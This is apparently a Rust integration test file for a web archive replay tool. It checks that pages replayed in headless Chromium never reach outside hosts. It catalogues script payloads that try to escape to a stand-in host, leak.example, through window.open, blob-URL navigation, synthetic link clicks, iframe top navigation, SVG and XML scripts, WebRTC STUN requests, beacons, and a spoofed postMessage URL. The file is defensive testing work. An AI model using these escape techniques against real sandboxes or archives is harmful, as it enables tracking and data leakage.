//! Chromium on a replayed capture: everything loads, and no request leaves the replay origin.

use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use varve_testkit::web::{Answer, Site, Web};

use super::{Served, page, serving};
use crate::history::Place;

/// An image of one pixel.
const DOT: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"8\" height=\"8\"><rect width=\"8\" height=\"8\"/></svg>";

const PAGE: &str = r#"<!doctype html><html><head><title>Lake</title><link rel="stylesheet" href="/style.css">
<link rel="preconnect" href="http://leak.example"><link rel="dns-prefetch" href="//leak.example"></head>
<body><h1 id="h">Lake</h1><img id="i" src="/dot.svg"><img id="made-here"><div id="log"></div><a id="a" href="/second">second</a>
<img src="http://leak.example/pixel.gif"><script src="http://leak.example/tracker.js"></script>
<script src="/script.js"></script></body></html>"#;

const SCRIPT: &str = r#"
const log = (text) => { document.getElementById("log").textContent += text + ";"; };
addEventListener("load", async () => {
  log("style:" + getComputedStyle(document.getElementById("h")).color);
  log("image:" + document.getElementById("i").naturalWidth);
  log("href:" + document.getElementById("a").href.replace(/:\d+/, ""));
  log("url:" + document.URL.replace(/:\d+/, ""));
  const picture = document.getElementById("made-here");
  picture.onload = () => log("made:" + picture.naturalWidth);
  picture.src = "/dot.svg?made";
  try { log("fetch:" + (await (await fetch("/data.json")).json()).depth); } catch (error) { log("fetch failed " + error); }
  const request = new XMLHttpRequest();
  request.open("GET", "/data.json");
  request.onload = () => log("request:" + JSON.parse(request.responseText).depth);
  request.send();
  try { await fetch("http://leak.example/fetch"); } catch { log("held"); }
  navigator.sendBeacon("http://leak.example/beacon", "x");
  new Image().src = "http://leak.example/image";
  const script = document.createElement("script");
  script.src = "//leak.example/script.js";
  document.body.append(script);
  document.body.insertAdjacentHTML("beforeend", "<img src='http://leak.example/inner'><iframe src='http://leak.example/frame'></iframe>");
  history.pushState({}, "", "/pushed");
  log("pushed:" + location.pathname.replace(/\d+/, "T").replace(/:\d+/, ""));
  setTimeout(() => log("done"), 300);
});
"#;

/// Counts connections, and answers none.
fn proxy() -> (String, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap().to_string();
    let count = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&count);
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut line = [0; 400];
            let length = stream.read(&mut line).unwrap_or(0);
            let text = String::from_utf8_lossy(&line[..length]).into_owned();
            // Requests of the browser itself, to its vendor, are not counted.
            if text.contains("leak.example") {
                counted.fetch_add(1, Ordering::SeqCst);
            }
            let _ = stream.write_all(b"HTTP/1.1 502 No\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        }
    });
    (address, count)
}

/// The DOM of a page as the browser serialises it, after eight seconds of the page's own time.
fn dump(url: &str, proxy: &str) -> Option<String> {
    browse(url, proxy, "--virtual-time-budget=8000")
}

/// Shows a document of this type in a browser. For an SVG document that navigates, the browser can wait
/// forever when the page's time is not that of the clock.
fn visit(kind: &str, url: &str, proxy: &str) {
    let is_svg = kind == "image/svg+xml";
    browse(url, proxy, if is_svg { "--timeout=5000" } else { "--virtual-time-budget=8000" }).unwrap();
}

fn browse(url: &str, proxy: &str, time: &str) -> Option<String> {
    let profile = tempfile::tempdir().unwrap();
    let output = Command::new("chromium")
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"])
        .args(["--disable-background-networking", "--disable-component-update", "--disable-sync"])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg(format!("--proxy-server=http://{proxy}"))
        .args([time, "--dump-dom", url])
        .output()
        .ok()?;
    Some(String::from_utf8_lossy(&output.stdout).into_owned())
}

#[test]
fn a_captured_page_works_and_no_request_leaves() {
    if varve_testkit::chromium().is_none() {
        return;
    }
    let web = Web::serve(
        Site::new()
            .page("/", Answer::html(PAGE))
            .page("/away", Answer::html("<script>location.href = 'http://leak.example/away'</script>"))
            .page("/second", Answer::html("<h1>Second</h1>"))
            .page(
                "/style.css",
                Answer::of("text/css", "h1 { color: rgb(1, 2, 3); background: url(dot.svg) }"),
            )
            .page("/script.js", Answer::of("text/javascript", SCRIPT))
            .page("/dot.svg", Answer::of("image/svg+xml", DOT))
            .page("/data.json", Answer::of("application/json", r#"{"depth":42}"#)),
    );
    let place = Place::new(true);
    let urls =
        ["/", "/second", "/style.css", "/script.js", "/dot.svg", "/dot.svg?made", "/data.json", "/away"]
            .map(|path| web.url(path));
    let mut words = vec!["capture", "--allow-private", "--delay", "0s", "--scope", "page", "-m", "x"];
    words.extend(urls.iter().map(String::as_str));
    place.run(&words);
    let served = Served::start(&place.path("museum"));
    assert_eq!(served.get(&format!("/web/2999/{}", urls[0])).status, 200);
    web.forget();
    let (proxy, leaks) = proxy();
    let address = served.get(&format!("/web/{}", urls[0])).header("location").unwrap().to_owned();
    let document = dump(&format!("http://{}{address}", served.replay), &proxy).unwrap();
    let log = document.split("<div id=\"log\">").nth(1).unwrap_or(&document).split("</div>").next().unwrap();
    for wanted in [
        "style:rgb(1, 2, 3)",
        "image:8",
        "href:http://127.0.0.1/second",
        "url:http://127.0.0.1/",
        "made:8",
        "fetch:42",
        "request:42",
        "pushed:/web/T/http://127.0.0.1/pushed",
        "done",
    ] {
        assert!(log.contains(wanted), "{wanted}\n{log}\n{document}");
    }
    // A page cannot navigate away, with and without a frame around it.
    let away = served.get(&format!("/web/{}", urls[7])).header("location").unwrap().to_owned();
    let document = dump(&format!("http://{}{away}", served.replay), &proxy).unwrap();
    assert!(document.contains("Not in the archive") && document.contains("leak.example/away"), "{document}");
    dump(&format!("http://{}/view?url={}", served.ui, urls[7]), &proxy).unwrap();
    assert_eq!(leaks.load(Ordering::SeqCst), 0, "asked of others: {document}");
    assert_eq!(web.total(), 0, "asked of the live site: {:?}", web.counts());
    // The counter works.
    dump("http://leak.example/", &proxy).unwrap();
    dump(&urls[1], &proxy).unwrap();
    assert!(leaks.load(Ordering::SeqCst) > 0 && web.total() > 0);
}

/// Ways by which scripts of a page reach other hosts although a policy forbids it requests: type,
/// document. `UDP` becomes the port of a server.
const WAYS_OUT: [(&str, &str); 14] = [
    ("text/html", "<script>open('http://leak.example/', '_self')</script>"),
    (
        "text/html",
        r#"<script>location = URL.createObjectURL(new Blob(["<script>location = 'http://leak.example/'</scr" + "ipt>"], { type: "text/html" }))</script>"#,
    ),
    (
        "text/html",
        r#"<script>location = URL.createObjectURL(new Blob(["<svg xmlns='http://www.w3.org/2000/svg'><script>location = 'http://leak.example/'</scr" + "ipt></svg>"], { type: "image/svg+xml" }))</script>"#,
    ),
    (
        "text/html",
        r#"<script>const part = document.createElement("p"); part.innerHTML = "<a href='http://leak.example/'>x</a>"; part.firstChild.click()</script>"#,
    ),
    (
        "text/html",
        r#"<script>const part = document.createElement("p"); part.innerHTML = "<a href='http://leak.example/'>x</a>"; part.firstChild.dispatchEvent(new MouseEvent("click"))</script>"#,
    ),
    (
        "text/html",
        r#"<body><script>const part = document.createElement("p"); document.body.append(part); const root = part.attachShadow({ mode: "open" }); root.innerHTML = "<a href='http://leak.example/'>x</a>"; root.firstChild.click()</script>"#,
    ),
    (
        "text/html",
        r#"<body><script>document.body.innerHTML = "<svg xmlns='http://www.w3.org/2000/svg'><a href='http://leak.example/'><text>x</text></a></svg>"; document.querySelector("text").dispatchEvent(new MouseEvent("click", { bubbles: true }))</script>"#,
    ),
    (
        "text/html",
        r#"<body><script>const frame = document.createElement("iframe"); document.body.append(frame); frame.contentWindow.open("http://leak.example/", "_top")</script>"#,
    ),
    (
        "text/html",
        r#"<body><script>document.body.innerHTML = "<iframe></iframe>"; frames[0].open("http://leak.example/", "_top")</script>"#,
    ),
    (
        "image/svg+xml",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location = 'http://leak.example/'</script></svg>",
    ),
    (
        "application/xml",
        "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>location = 'http://leak.example/'</script></html>",
    ),
    (
        "text/html",
        r#"<script>const link = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:UDP" }] }); link.createDataChannel("x"); link.createOffer().then((offer) => link.setLocalDescription(offer))</script>"#,
    ),
    (
        "text/html",
        r#"<body><script>document.body.append(document.createElement("iframe")); const link = new frames[0].RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:UDP" }] }); link.createDataChannel("x"); link.createOffer().then((offer) => link.setLocalDescription(offer))</script>"#,
    ),
    (
        "text/html",
        r#"<iframe srcdoc='<script>const link = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:UDP" }] }); link.createDataChannel("x"); link.createOffer().then((offer) => link.setLocalDescription(offer))</script>'></iframe>"#,
    ),
];

/// Counts datagrams.
fn datagrams() -> (u16, Arc<AtomicUsize>) {
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = socket.local_addr().unwrap().port();
    let count = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&count);
    std::thread::spawn(move || {
        while socket.recv(&mut [0; 1500]).is_ok() {
            counted.fetch_add(1, Ordering::SeqCst);
        }
    });
    (port, count)
}

#[test]
fn no_script_leaves_an_archived_page() {
    if varve_testkit::chromium().is_none() {
        return;
    }
    let (port, sent) = datagrams();
    let document = |number: usize| WAYS_OUT[number].1.replace("UDP", &port.to_string());
    let path = |number: usize| format!("/way/{number}");
    let site = (0..WAYS_OUT.len()).fold(Site::new(), |site, number| {
        site.page(&path(number), Answer::of(WAYS_OUT[number].0, document(number)))
    });
    let web = Web::serve(site);
    let place = Place::new(true);
    let urls: Vec<String> = (0..WAYS_OUT.len()).map(|number| web.url(&path(number))).collect();
    let mut words = vec!["capture", "--allow-private", "--delay", "0s", "--scope", "page", "-m", "x"];
    words.extend(urls.iter().map(String::as_str));
    place.run(&words);
    let served = Served::start(&place.path("museum"));
    let (proxy, asked) = proxy();
    let leaks = || asked.swap(0, Ordering::SeqCst) + sent.swap(0, Ordering::SeqCst);
    for (number, url) in urls.iter().enumerate() {
        for modifier in ["", "id_"] {
            visit(WAYS_OUT[number].0, &format!("http://{}/web/2999{modifier}/{url}", served.replay), &proxy);
            assert_eq!(leaks(), 0, "{modifier} {}", WAYS_OUT[number].1);
        }
        // The same page does leave when it is not replayed.
        visit(WAYS_OUT[number].0, url, &proxy);
        assert!(leaks() > 0, "leads nowhere on the live web: {}", WAYS_OUT[number].1);
    }
}

#[test]
fn the_bar_follows_the_page_in_its_frame() {
    if varve_testkit::chromium().is_none() {
        return;
    }
    let first = "<title>one</title><script>setTimeout(() => { location.href = '/second'; }, 50)</script>";
    let (_place, served) = serving(
        true,
        &[
            page("http://lake.example/", "2026-01-01T00:00:00Z", first),
            page("http://lake.example/second", "2026-01-02T00:00:00Z", "<h1>Second</h1>"),
            page("http://lake.example/pushed", "2026-01-03T00:00:00Z", "<h1>Third</h1>"),
            page(
                "http://lake.example/app",
                "2026-01-01T00:00:00Z",
                "<script>history.pushState({}, '', '/pushed')</script>",
            ),
            page(
                "http://lake.example/liar",
                "2026-01-01T00:00:00Z",
                "<script>parent.postMessage({ varve: 'shown', url: 'http://bank.example/', time: '' }, '*')</script>",
            ),
        ],
    );
    let (proxy, _) = proxy();
    for (path, time, shown) in
        [("", "20260101", "second"), ("app", "2026", "pushed"), ("liar", "2026", "liar")]
    {
        let view = format!("http://{}/view?time={time}&url=http://lake.example/{path}", served.ui);
        let document = dump(&view, &proxy).unwrap();
        let bar = document.split("<header class=\"bar").nth(1).unwrap().split("</header>").next().unwrap();
        assert!(bar.contains(&format!(">http://lake.example/{shown}</a>")), "{path}: {bar}");
        assert!(document.contains(&format!("<title>http://lake.example/{shown} ")), "{path}: {document}");
    }
}

#[test]
fn screenshots_of_a_browser_are_shown() {
    if varve_testkit::chromium().is_none() {
        return;
    }
    let web =
        Web::serve(Site::new().page("/", Answer::html("<h1>Lake</h1>")).page("/plain", Answer::html("x")));
    let place = Place::new(true);
    place.run(&["capture", &web.url("/"), "--browser", "--allow-private", "--delay", "0s", "-m", "x"]);
    place.run(&["capture", &web.url("/plain"), "--allow-private", "--delay", "0s", "-m", "x"]);
    let served = Served::start(&place.path("museum"));
    let history = served.page(&format!("/page?url={}", web.url("/"))).text();
    let path = history.split("<img src=\"").nth(1).unwrap_or(&history).split('"').next().unwrap();
    let path = path.replace("&amp;", "&");
    assert!(path.starts_with("/screenshot?url="), "{history}");
    let image = served.page(&path);
    assert_eq!((image.status, image.header("content-type")), (200, Some("image/png")));
    assert!(image.body.starts_with(b"\x89PNG"));
    let bar = served.page(&format!("/view?url={}", web.url("/"))).text();
    assert!(bar.contains(">screenshot</a>"), "{bar}");
    // A capture without a browser has none.
    let bar = served.page(&format!("/view?url={}", web.url("/plain"))).text();
    assert!(!bar.contains("screenshot"), "{bar}");
    assert_eq!(served.page(&format!("/screenshot?time=2026&url={}", web.url("/plain"))).status, 404);
}
